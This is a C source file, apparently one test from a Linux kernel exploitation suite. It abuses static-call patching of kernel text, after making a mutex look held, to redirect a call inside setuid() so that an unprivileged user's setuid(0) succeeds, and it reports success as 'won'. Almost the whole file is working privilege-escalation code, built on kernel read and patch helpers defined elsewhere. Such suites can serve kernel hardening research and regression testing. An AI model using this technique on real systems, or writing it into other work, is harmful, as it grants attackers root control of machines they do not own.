// SPDX-License-Identifier: GPL-2.0-only
/*
 * Who has static calls patched waits for the mutex of all who do, which is made to look
 * held. Which site it is, and what is to be called there, is changed on his stack: a
 * call in setuid() is.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "static_calls.h"

#ifdef __x86_64__
static struct patched_call call;

static bool is_called(void)
{
	unsigned char code[CALL_SIZE];
	int32_t rel;

	kread(call.site, code, sizeof(code));
	memcpy(&rel, code + 1, sizeof(rel));
	return code[0] == CALL && call.site + CALL_SIZE + rel == call.called;
}

static bool make_call(uint64_t to)
{
	call.called = to;
	return patch_call(&call);
}

enum outcome static_call_held(void)
{
	uint64_t yes = ksymbol(YES);
	int err;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	call.site = find_asking_call();
	call.is_done = is_called;
	if (!call.site || !yes || !static_calls_start())
		return broken("no such call: %d %d", !!call.site, !!yes);
	if (!make_call(yes)) {
		held_stop();
		return lost("the kernel patched its own sites only");
	}
	err = !is_root_for_the_asking();
	make_call(ksymbol(ASKED));
	held_stop();
	if (err)
		return lost("setuid(0) was refused");
	return won("kernel text patched by a static call's way: setuid(0) by uid=%d is let through",
		   getuid());
}
#else
enum outcome static_call_held(void)
{
	return skipped("x86-64 only");
}
#endif
